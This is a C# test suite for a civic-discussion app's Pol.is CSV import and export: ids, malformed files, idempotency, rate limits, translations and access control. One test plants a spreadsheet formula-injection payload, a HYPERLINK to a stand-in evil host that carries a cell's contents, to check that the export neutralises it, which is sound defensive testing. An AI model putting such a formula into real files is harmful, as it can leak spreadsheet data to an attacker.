using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using Grassroots.Features.Conversations;
using Grassroots.Infrastructure.Data;
using Grassroots.Infrastructure.Web;
using Grassroots.Opinion.Polis;
using Grassroots.Tests.Infrastructure;
using Grassroots.Tests.Opinion;
using Grassroots.Tests.Opinion.Polis;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Grassroots.Tests.Features.Conversations;

/// <summary>Pol.is exports in and out: the API, the page and the command; ids kept, malformed files import nothing.</summary>
public abstract class PolisImportTests(AppFactory app)
{
    /// <summary>An export with three planted opinion groups: participants 1000–1119, 30 statements 500–529 (#507 moderated out, #508 meta), Pol.is' groups, a summary.</summary>
    internal static async Task<(string Comments, string Votes, string Participants, string Summary, PlantedConversation Planted)> ExportAsync()
    {
        var planted = PlantedConversation.Make(3, 120, 30, seed: 7);
        var start = new DateTimeOffset(2016, 5, 1, 12, 0, 0, TimeSpan.Zero);
        var comments = Enumerable.Range(0, 30).Select(i => new PolisComment(500 + i, 1000 + i, $"Statement {i}: \"quoted\", with a comma", i == 7 ? PolisModeration.ModeratedOut : PolisModeration.Accepted,
            start.AddMinutes(i), IsMeta: i == 8, IsSeed: i < 2)).ToList();
        var votes = planted.Votes.Select((v, k) => new PolisVote(v.Participant, v.Statement, v.Value, start.AddHours(1).AddSeconds(k))).ToList();
        using var c = new MemoryStream();
        using var vs = new MemoryStream();
        await PolisWriter.WriteAsync(new PolisConversation { Comments = comments, Votes = votes }, c, vs);
        var participants = new StringBuilder("participant,group-id,n-comments,n-votes,n-agree,n-disagree\n");
        foreach (var (id, group) in planted.GroupOf.OrderBy(x => x.Key)) participants.Append($"{id},{group},0,1,1,0\n");
        const string summary = "topic,How should the movement fund campaigns?\nurl,https://pol.is/report/r2xyz\nconversation-description,A test.\n";
        return (Encoding.UTF8.GetString(c.ToArray()), Encoding.UTF8.GetString(vs.ToArray()), participants.ToString(), summary, planted);
    }

    internal static MultipartFormDataContent Form(string? comments, string? votes, string? participants = null, string? summary = null, string? topic = null)
    {
        var form = new MultipartFormDataContent();
        void File(string? text, string field, string name)
        {
            if (text is not null) form.Add(new ByteArrayContent(Encoding.UTF8.GetBytes(text)), field, name);
        }
        File(comments, "comments", "comments.csv");
        File(votes, "votes", "votes.csv");
        File(participants, "participantsVotes", "participants-votes.csv");
        File(summary, "summary", "summary.csv");
        if (topic is not null) form.Add(new StringContent(topic), "topic");
        return form;
    }

    private Task<int> ImportedByAsync(Guid member) =>
        app.WithScopeAsync(sp => sp.GetRequiredService<AppDbContext>().Conversations.CountAsync(c => c.CreatedById == member && c.Imported));

    [Fact]
    public async Task Other_members_write_while_a_big_import_is_being_written()
    {
        // 150,000 votes: 3,000 voters on 50 statements, written in batches of 5,000; the import holds no lock between them.
        // (30,000 votes were written in under a second on the CI machine, before the first write here was answered.)
        var comments = new StringBuilder("timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body\n");
        for (var i = 0; i < 50; i++) comments.Append($"1462104000000,x,{i},{i},0,0,1,Statement {i}\n");
        var votes = new StringBuilder("timestamp,datetime,comment-id,voter-id,vote\n");
        for (var p = 0; p < 3_000; p++)
            for (var i = 0; i < 50; i++) votes.Append($"1462104000000,x,{i},{p},{(p + i) % 3 - 1}\n");
        var (importer, importerClient) = await app.MemberAsync();
        var (_, host) = await app.MemberAsync();
        var open = await ConversationsTests.StartAsync(host, "A $15 minimum wage.");
        var (_, voter) = await app.MemberAsync();

        var import = importerClient.PostAsync("/api/conversations/import", Form(comments.ToString(), votes.ToString(), topic: "A big import"));
        // Wait until the import is being written (its hidden conversation exists), then write elsewhere.
        var db = () => app.WithScopeAsync(sp => sp.GetRequiredService<AppDbContext>().Conversations.AsNoTracking()
            .Where(c => c.CreatedById == importer.Id).Select(c => new { c.Id, c.Moderation }).SingleOrDefaultAsync());
        var started = DateTime.UtcNow;
        while (await db() is null && !import.IsCompleted && DateTime.UtcNow - started < TimeSpan.FromSeconds(60)) await Task.Delay(20);
        var writes = 0;
        while (!import.IsCompleted && writes < 20)
        {
            var answered = await voter.PostAsJsonAsync($"/api/conversations/{open.Slug}/votes", new { statement = 0, vote = writes % 2 == 0 ? 1 : -1 });
            Assert.Equal(HttpStatusCode.NoContent, answered.StatusCode);
            if ((await db())?.Moderation == Grassroots.Features.Moderation.ContentModeration.Removed) writes++; // still hidden: the import is mid-way
            else break;
        }
        Assert.Equal(HttpStatusCode.Created, (await import).StatusCode);
        Assert.True(writes > 0, "No write was answered while the import was being written.");
        var imported = (await db())!.Id;
        Assert.Equal(150_000, await app.WithScopeAsync(sp => sp.GetRequiredService<AppDbContext>().StatementVotes.CountAsync(v => v.ConversationId == imported)));
    }

    [Fact]
    public async Task A_members_conversation_exports_from_its_page_with_times_by_the_day_and_for_a_spreadsheet()
    {
        var (host, hostClient) = await app.MemberAsync();
        var c = await ConversationsTests.StartAsync(hostClient, "=HYPERLINK(\"http://evil.example/\"&A1)", "A $15 minimum wage.");
        var (_, voter) = await app.MemberAsync();
        Assert.Equal(HttpStatusCode.NoContent, (await voter.PostAsJsonAsync($"/api/conversations/{c.Slug}/votes", new { statement = 0, vote = -1 })).StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, (await voter.PostAsJsonAsync($"/api/conversations/{c.Slug}/votes", new { statement = 1, vote = 1 })).StatusCode);

        // The page's links are outside /api, so the moderator's browser (a cookie, no token) downloads them.
        var browser = await app.BrowserAsync(host);
        Assert.Contains($"/conversations/{c.Slug}/export/votes.csv", await browser.GetStringAsync($"/conversations/{c.Slug}"));
        var votes = await browser.GetAsync($"/conversations/{c.Slug}/export/votes.csv");
        Assert.Equal(HttpStatusCode.OK, votes.StatusCode);
        var read = await PolisReader.ReadAsync(new PolisExportFiles(
            await browser.GetStreamAsync($"/conversations/{c.Slug}/export/comments.csv"), await votes.Content.ReadAsStreamAsync()));
        Assert.True(read.Succeeded, read.Error?.ToString());
        // A member's vote is timed by the day only: no moderator tells a number from the minute someone voted.
        Assert.Contains(read.Conversation.Votes, v => v.CommentId == 0 && v.Value == -1);
        Assert.Contains(read.Conversation.Votes, v => v.CommentId == 1 && v.Value == 1);
        Assert.All(read.Conversation.Votes, v => Assert.Equal(TimeSpan.Zero, v.At.UtcDateTime.TimeOfDay));
        Assert.All(read.Conversation.Comments, s => Assert.Equal(TimeSpan.Zero, s.Created.UtcDateTime.TimeOfDay));
        // Pol.is' format keeps the text as written; the spreadsheet file shows the formula as text, and numbers as numbers.
        Assert.Contains("=HYPERLINK", read.Conversation.Comments.Single(s => s.Id == 0).Body[..10]);
        var sheet = await browser.GetStringAsync($"/conversations/{c.Slug}/export/comments.csv?for=spreadsheet");
        Assert.Contains("'=HYPERLINK", sheet);
        Assert.DoesNotContain("'-1", sheet);
        Assert.DoesNotContain("'0", sheet);

        // Not a moderator: refused; not signed in: sent to sign in.
        Assert.Equal(HttpStatusCode.Forbidden, (await (await app.BrowserAsync()).GetAsync($"/conversations/{c.Slug}/export/votes.csv")).StatusCode);
        var anonymous = app.CreateClient(new Microsoft.AspNetCore.Mvc.Testing.WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
        var signIn = await anonymous.GetAsync($"/conversations/{c.Slug}/export/votes.csv");
        Assert.Equal(HttpStatusCode.Redirect, signIn.StatusCode);
        Assert.Contains("/account/signin", signIn.Headers.Location!.ToString());
    }

    [Fact]
    public async Task An_export_imports_with_its_ids_and_groups_computes_a_map_and_exports_back_the_same()
    {
        var (member, client) = await app.MemberAsync();
        var (comments, votes, participants, summary, planted) = await ExportAsync();

        var preview = (await (await client.PostAsync("/api/conversations/import/preview", Form(comments, votes, participants, summary))).Content.ReadFromJsonAsync<PolisImportSummary>())!;
        Assert.Equal((30, 1, 1, 120, 3), (preview.Statements, preview.ModeratedOut, preview.Meta, preview.Participants, preview.PolisGroups));
        Assert.Equal(0, await ImportedByAsync(member.Id)); // a check stores nothing

        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/conversations/import") { Content = Form(comments, votes, participants, summary) };
        request.Headers.Add("Idempotency-Key", "upload-1");
        var response = await client.SendAsync(request);
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        var imported = (await response.Content.ReadFromJsonAsync<PolisImported>())!;
        var c = imported.Conversation;
        Assert.Equal(("How should the movement fund campaigns?", true, false, "https://pol.is/report/r2xyz"), (c.Topic, c.Imported, c.Open, c.ImportedFrom));
        Assert.Equal(planted.Votes.Count, c.Votes);
        Assert.Equal(planted.Votes.Count, imported.Summary.Votes);

        // Sent again with the same key (the answer was lost): the same conversation, not a second one.
        using var again = new HttpRequestMessage(HttpMethod.Post, "/api/conversations/import") { Content = Form(comments, votes, participants, summary) };
        again.Headers.Add("Idempotency-Key", "upload-1");
        Assert.Equal(c.Id, (await (await client.SendAsync(again)).Content.ReadFromJsonAsync<PolisImported>())!.Conversation.Id);
        Assert.Equal(1, await ImportedByAsync(member.Id));

        // Read only: no votes, no statements.
        var url = $"/api/conversations/{c.Slug}";
        Assert.Contains("Pol.is", (await ProblemAssert.IsProblemAsync(await client.PostAsJsonAsync(url + "/votes", new { statement = 0, vote = 1 }), HttpStatusCode.BadRequest))["vote"][0]);
        var statements = (await client.GetFromJsonAsync<Page<StatementView>>(url + "/statements?pageSize=100"))!;
        Assert.Equal(Enumerable.Range(500, 30), statements.Items.Select(s => s.Number));
        Assert.Equal((StatementStatus.Rejected, RejectionReason.Unstated), (statements.Items[7].Status, statements.Items[7].Rejection));
        Assert.Equal("Statement 3: \"quoted\", with a comma", statements.Items[3].Text);
        Assert.Equal(planted.Votes.Count(v => v.Statement == 503 && v.Value == 1), statements.Items[3].Agrees);

        // The map: every participant by their Pol.is id, with our group and Pol.is'; ours recover the planted groups.
        await app.WithScopeAsync(async sp => { await sp.GetRequiredService<OpinionRecompute>().ComputeAsync(c.Id, CancellationToken.None); return 0; });
        var listed = new List<ParticipantView>();
        for (var page = 1; ; page++)
        {
            var p = (await client.GetFromJsonAsync<Page<ParticipantView>>($"{url}/participants?page={page}&pageSize=100"))!;
            listed.AddRange(p.Items);
            if (page >= p.PageCount) break;
        }
        Assert.Equal(planted.GroupOf.Keys.Order(), listed.Select(p => p.Number));
        Assert.All(listed, p => Assert.Equal(planted.GroupOf[p.Number], p.PolisGroup));
        var clustered = listed.Where(p => p.Group is not null).ToList();
        Assert.True(clustered.Count > 100, $"{clustered.Count} clustered");
        Assert.True(Grassroots.Opinion.AdjustedRandIndex.Of(clustered.Select(p => p.PolisGroup!.Value).ToList(), clustered.Select(p => p.Group!.Value).ToList()) > 0.9);
        // Statements moderated out and meta ones stay out of the map (group statements and consensus).
        var map = (await client.GetFromJsonAsync<OpinionMapView>(url + "/map"))!;
        Assert.DoesNotContain(map.Groups.SelectMany(g => g.Statements).Select(s => s.Statement).Concat(map.Consensus.Select(s => s.Statement)), s => s is 507 or 508);

        // Exported back, the files read as the same conversation.
        var exportedComments = await client.GetStringAsync(url + "/export/comments.csv");
        var exportedVotes = await client.GetStringAsync(url + "/export/votes.csv");
        var back = await PolisReader.ReadAsync(new PolisExportFiles(new MemoryStream(Encoding.UTF8.GetBytes(exportedComments)), new MemoryStream(Encoding.UTF8.GetBytes(exportedVotes))));
        Assert.True(back.Succeeded, back.Error?.ToString());
        var original = (await PolisReader.ReadAsync(new PolisExportFiles(new MemoryStream(Encoding.UTF8.GetBytes(comments)), new MemoryStream(Encoding.UTF8.GetBytes(votes))))).Conversation!;
        Assert.Equal(original.Comments, back.Conversation.Comments);
        Assert.Equal(original.Votes, back.Conversation.Votes);

        // Only its moderators export it; only its importer deletes it.
        var (_, other) = await app.MemberAsync();
        await ProblemAssert.IsProblemAsync(await other.GetAsync(url + "/export/votes.csv"), HttpStatusCode.Forbidden);
        await ProblemAssert.IsProblemAsync(await other.DeleteAsync(url), HttpStatusCode.Forbidden);
        Assert.Equal(HttpStatusCode.NoContent, (await client.DeleteAsync(url)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync(url)).StatusCode);
        Assert.Equal(0, await app.WithScopeAsync(sp => sp.GetRequiredService<AppDbContext>().StatementVotes.CountAsync(v => v.ConversationId == c.Id)));
    }

    [Fact]
    public async Task A_conversation_members_voted_in_exports_with_their_numbers_and_cannot_be_deleted_as_an_import()
    {
        var (_, host) = await app.MemberAsync();
        var c = await ConversationsTests.StartAsync(host, "One.", "Two.");
        var (_, member) = await app.MemberAsync();
        var url = $"/api/conversations/{c.Slug}";
        await member.PostAsJsonAsync(url + "/votes", new { statement = 1, vote = -1 });
        var votes = await host.GetStringAsync(url + "/export/votes.csv");
        var number = (await member.GetFromJsonAsync<ConversationView>(url))!.MyNumber;
        Assert.Matches($@"^timestamp,datetime,comment-id,voter-id,vote\n\d+,[^,]+,1,{number},-1\n$", votes);
        Assert.Contains("Forbidden", (await host.DeleteAsync(url)).StatusCode.ToString());
    }

    public static TheoryData<string, string?, string?, string, string, int?> Malformed => new()
    {
        // case, comments.csv, votes.csv, field, message fragment, line
        { "a vote of 2", PolisFiles.TwoComments, PolisFiles.Votes + "5,x,0,3,1\n5,x,1,3,2\n", "votes", "votes.csv, line 3, column \"vote\": \"2\" is not a vote", 3 },
        { "no votes.csv", PolisFiles.TwoComments, null, "votes", "The export has no votes.csv", null },
        { "a vote on a comment that is not there", PolisFiles.TwoComments, PolisFiles.Votes + "5,x,9,3,1\n", "votes", "Comment 9 is not in comments.csv", 2 },
        { "a JSON file for comments.csv", "{\"comments\": [{\"id\": 1}]}\n", PolisFiles.Votes, "comments", "comments.csv, line 1, column \"timestamp\": The header line has no column \"timestamp\"", 1 },
    };

    [Theory]
    [MemberData(nameof(Malformed))]
    public async Task A_malformed_export_says_which_file_line_and_column_and_imports_nothing(string @case, string? comments, string? votes, string field, string message, int? line)
    {
        _ = @case;
        var (member, client) = await app.MemberAsync();
        var response = await client.PostAsync("/api/conversations/import", Form(comments, votes, topic: "Minimum wage"));
        var errors = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Contains(message, errors[field][0]);
        if (line is not null)
        {
            using var doc = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
            Assert.Equal(line, doc.RootElement.GetProperty("line").GetInt32());
        }
        Assert.Equal(0, await ImportedByAsync(member.Id));
    }

    [Fact]
    public async Task Every_broken_file_is_named_in_one_answer()
    {
        var (member, client) = await app.MemberAsync();
        var response = await client.PostAsync("/api/conversations/import/preview", Form("{\"comments\": []}\n", PolisFiles.Votes + "5,x,0,3,2\n"));
        var errors = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.StartsWith("comments.csv, line 1", errors["comments"][0]);
        Assert.StartsWith("votes.csv, line 2, column \"vote\"", errors["votes"][0]);
        using var doc = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        Assert.Equal(["comments.csv", "votes.csv"], doc.RootElement.GetProperty("files").EnumerateArray().Select(f => f.GetProperty("file").GetString()));
        // Neither file is there: both are asked for.
        var none = await ProblemAssert.IsProblemAsync(await client.PostAsync("/api/conversations/import", Form(null, null, topic: "Nothing")), HttpStatusCode.BadRequest);
        Assert.Equal(["comments", "votes"], none.Keys.Order());
        Assert.Equal(0, await ImportedByAsync(member.Id));
    }

    [Fact]
    public async Task An_import_the_process_never_finished_is_seen_by_nobody_and_swept_after_an_hour()
    {
        var (member, client) = await app.MemberAsync();
        var done = (await (await client.PostAsync("/api/conversations/import", Form(PolisFiles.TwoComments, PolisFiles.Votes + "5,x,1,3,1\n", topic: "Finished"))).Content.ReadFromJsonAsync<PolisImported>())!.Conversation;
        // Two half-written imports as a stopped process leaves them: one begun two hours ago, one a minute ago.
        var (old, fresh) = await app.WithScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<AppDbContext>();
            var now = sp.GetRequiredService<TimeProvider>().GetUtcNow();
            Conversation Half(string slug, DateTimeOffset at) => new()
            {
                Slug = slug, Topic = slug, Description = "", CreatedById = member.Id, CreatedAt = at, Open = false, Imported = true, Importing = true,
                Moderation = Grassroots.Features.Moderation.ContentModeration.Removed, Participants = 1, Statements = 1, Votes = 1,
            };
            var (o, f) = (Half($"half-old-{Guid.NewGuid():N}"[..20], now.AddHours(-2)), Half($"half-new-{Guid.NewGuid():N}"[..20], now.AddMinutes(-1)));
            db.Conversations.AddRange(o, f);
            await db.SaveChangesAsync();
            db.Statements.Add(new Statement { ConversationId = o.Id, Number = 1, AuthorNumber = 1, Text = "Half", CreatedAt = now });
            db.StatementVotes.Add(new StatementVote { ConversationId = o.Id, ParticipantNumber = 1, StatementNumber = 1, Value = 1, At = now });
            await db.SaveChangesAsync();
            return (o, f);
        });
        // Not even its importer opens one, by slug or id.
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync($"/api/conversations/{old.Slug}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync($"/api/conversations/{old.Id}/statements")).StatusCode);

        var swept = await app.WithScopeAsync(async sp =>
            await sp.GetRequiredService<PolisImport>().SweepAsync(sp.GetRequiredService<TimeProvider>().GetUtcNow() - ImportSweeper.Age, CancellationToken.None));
        Assert.True(swept >= 1);
        await app.WithScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<AppDbContext>();
            Assert.False(await db.Conversations.AnyAsync(c => c.Id == old.Id));
            Assert.False(await db.StatementVotes.AnyAsync(v => v.ConversationId == old.Id));
            Assert.True(await db.Conversations.AnyAsync(c => c.Id == fresh.Id)); // may still be being written
            Assert.True(await db.Conversations.AnyAsync(c => c.Id == done.Id && !c.Importing));
            return 0;
        });
    }

    [Fact]
    public async Task A_cut_short_upload_is_refused_clearly_and_a_member_imports_at_most_five_a_day()
    {
        var (member, client) = await app.MemberAsync();
        var cut = new ByteArrayContent(Encoding.UTF8.GetBytes("--zz\r\nContent-Disposition: form-data; name=\"comments\"; filename=\"a\"\r\n\r\nabc"));
        cut.Headers.TryAddWithoutValidation("Content-Type", "multipart/form-data; boundary=zz");
        Assert.Contains("could not be read", (await ProblemAssert.IsProblemAsync(await client.PostAsync("/api/conversations/import", cut), HttpStatusCode.BadRequest))["comments"][0]);
        for (var i = 0; i < 5; i++)
            Assert.Equal(HttpStatusCode.Created, (await client.PostAsync("/api/conversations/import", Form(PolisFiles.TwoComments, PolisFiles.Votes + "5,x,1,3,1\n", topic: $"Import {i}"))).StatusCode);
        Assert.Contains("past day", (await ProblemAssert.IsProblemAsync(await client.PostAsync("/api/conversations/import", Form(PolisFiles.TwoComments, PolisFiles.Votes, topic: "One more")), HttpStatusCode.BadRequest))["comments"][0]);
        Assert.Equal(5, await ImportedByAsync(member.Id));
    }

    [Fact]
    public async Task Errors_are_in_Spanish_and_an_export_without_a_topic_asks_for_one()
    {
        var (member, client) = await app.MemberAsync();
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/conversations/import") { Content = Form(PolisFiles.TwoComments, PolisFiles.Votes + "5,x,1,3,sí\n") };
        request.Headers.AcceptLanguage.ParseAdd("es");
        var errors = await ProblemAssert.IsProblemAsync(await client.SendAsync(request), HttpStatusCode.BadRequest);
        Assert.Equal("votes.csv, línea 2, columna \"vote\": \"sí\" no es un voto: un voto es 1 (de acuerdo), -1 (en desacuerdo) o 0 (paso).", errors["votes"][0]);

        var noTopic = await ProblemAssert.IsProblemAsync(await client.PostAsync("/api/conversations/import", Form(PolisFiles.TwoComments, PolisFiles.Votes + "5,x,1,3,1\n")), HttpStatusCode.BadRequest);
        Assert.Contains("summary.csv", noTopic["topic"][0]);
        Assert.Equal(0, await ImportedByAsync(member.Id));
    }

    [Fact]
    public async Task Ids_at_the_ceiling_and_control_characters_import()
    {
        var (_, client) = await app.MemberAsync();
        var comments = PolisFiles.OlderComments + $"1,x,{int.MaxValue},{int.MaxValue},0,0,1,\"Bell\u0007 inside\"\n" + "1,x,0,0,0,0,1,\"\u0001 \"\n";
        var votes = PolisFiles.Votes + $"2,x,{int.MaxValue},{int.MaxValue},1\n2,x,{int.MaxValue},0,-1\n";
        var response = await client.PostAsync("/api/conversations/import", Form(comments, votes, topic: "Edge"));
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        var c = (await response.Content.ReadFromJsonAsync<PolisImported>())!.Conversation;
        var statements = (await client.GetFromJsonAsync<Page<StatementView>>($"/api/conversations/{c.Slug}/statements"))!.Items;
        var s = statements.Single(x => x.Number == int.MaxValue);
        Assert.Equal((int.MaxValue, "Bell inside", 1, 1), (s.Number, s.Text, s.Agrees, s.Disagrees));
        // A body of nothing but a control character and a space is kept as an ellipsis, and the export still writes (it answered 500).
        Assert.Equal("\u2026", statements.Single(x => x.Number == 0).Text);
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync($"/api/conversations/{c.Slug}/export/comments.csv")).StatusCode);
    }

    [Fact]
    public async Task The_import_page_checks_then_imports_and_shows_an_error_beside_its_file()
    {
        var client = await app.BrowserAsync((await app.MemberAsync()).Member);
        var (comments, votes, participants, summary, _) = await ExportAsync();
        var check = await PostPageAsync(client, "/conversations/import?handler=Check", Form(comments, votes, participants, summary));
        Assert.Contains("The files read well", check);
        Assert.Contains("120 participants", check);

        var bad = await PostPageAsync(client, "/conversations/import", Form(comments, PolisFiles.Votes + "5,x,0,3,yes\n"));
        Assert.Contains("<span class=\"field-error\" id=\"votes-error\" data-refresh>votes.csv, line 2, column \"vote\": \"yes\" is not a vote", bad);
        // Two broken files: each is named beside its own field, in one answer.
        var both = await PostPageAsync(client, "/conversations/import?handler=Check", Form("{\"comments\": []}\n", PolisFiles.Votes + "5,x,0,3,yes\n"));
        Assert.Contains("id=\"comments-error\" data-refresh>comments.csv, line 1, column \"timestamp\"", both);
        Assert.Contains("id=\"votes-error\" data-refresh>votes.csv, line 2, column \"vote\"", both);

        var page = await client.PostAsync("/conversations/import", await WithTokenAsync(client, Form(comments, votes, participants, summary)));
        Assert.Equal(HttpStatusCode.Redirect, page.StatusCode);
        var conversation = await client.GetStringAsync(page.Headers.Location!.ToString());
        Assert.Contains("Imported from Pol.is", conversation);
        Assert.Contains("Statement 29", conversation);
        Assert.Contains("Delete this import", conversation);
    }

    private static async Task<MultipartFormDataContent> WithTokenAsync(HttpClient client, MultipartFormDataContent form)
    {
        var html = await client.GetStringAsync("/conversations/import");
        form.Add(new StringContent(WebUtility.HtmlDecode(Regex.Match(html, "name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"").Groups[1].Value)), "__RequestVerificationToken");
        return form;
    }

    private static async Task<string> PostPageAsync(HttpClient client, string url, MultipartFormDataContent form)
    {
        var response = await client.PostAsync(url, await WithTokenAsync(client, form));
        var html = WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync());
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode}: {html}");
        return html;
    }

    [Fact]
    public async Task The_command_imports_a_folder_computes_the_map_and_compares_with_Polis_groups()
    {
        var (comments, votes, participants, summary, _) = await ExportAsync();
        var dir = Directory.CreateTempSubdirectory("polis-").FullName;
        try
        {
            await File.WriteAllTextAsync(Path.Combine(dir, "comments.csv"), comments);
            await File.WriteAllTextAsync(Path.Combine(dir, "votes.csv"), votes);
            await File.WriteAllTextAsync(Path.Combine(dir, "participants-votes.csv"), participants);
            await File.WriteAllTextAsync(Path.Combine(dir, "summary.csv"), summary);
            var (output, errors) = (new StringWriter(), new StringWriter());
            Assert.Equal(0, await PolisCommand.RunAsync(app.Services, [dir, "--topic", "Funding, from the command line"], output, errors, CancellationToken.None));
            Assert.Contains("Imported \"Funding, from the command line\"", output.ToString());
            var ari = double.Parse(Regex.Match(output.ToString(), @"adjusted Rand index, 1 = the same split\): (\d+\.\d+)").Groups[1].Value, System.Globalization.CultureInfo.InvariantCulture);
            Assert.True(ari > 0.9, output.ToString());

            await File.WriteAllTextAsync(Path.Combine(dir, "votes.csv"), PolisFiles.Votes + "5,x,500,3,1\n5,x,501,3,2\n");
            Assert.Equal(1, await PolisCommand.RunAsync(app.Services, [dir], output, errors, CancellationToken.None));
            Assert.Contains("votes.csv, line 3, column vote", errors.ToString());
        }
        finally { Directory.Delete(dir, recursive: true); }
    }
}

/// <summary>The Pol.is reader's messages are keys of the host's Spanish resources, with the same placeholders.</summary>
public sealed class PolisMessagesSpanishTests
{
    [Fact]
    public void Every_reader_message_has_a_Spanish_translation_with_the_same_placeholders()
    {
        var resx = XDocument.Load(Path.Combine(AppContext.BaseDirectory, "../../../../../src/Grassroots/Resources/SharedResource.es.resx"));
        var spanish = resx.Root!.Elements("data").ToDictionary(d => (string)d.Attribute("name")!, d => (string)d.Element("value")!);
        foreach (var english in PolisMessages.All)
        {
            Assert.True(spanish.TryGetValue(english, out var es), $"No Spanish for: {english}");
            Assert.Equal(Regex.Matches(english, @"\{\d\}").Select(m => m.Value).Order(), Regex.Matches(es!, @"\{\d\}").Select(m => m.Value).Order());
        }
    }
}

public sealed class PolisImportTests_Sqlite(SqliteApp app) : PolisImportTests(app), IClassFixture<SqliteApp>;
public sealed class PolisImportTests_Postgres(PostgresApp app) : PolisImportTests(app), IClassFixture<PostgresApp>;
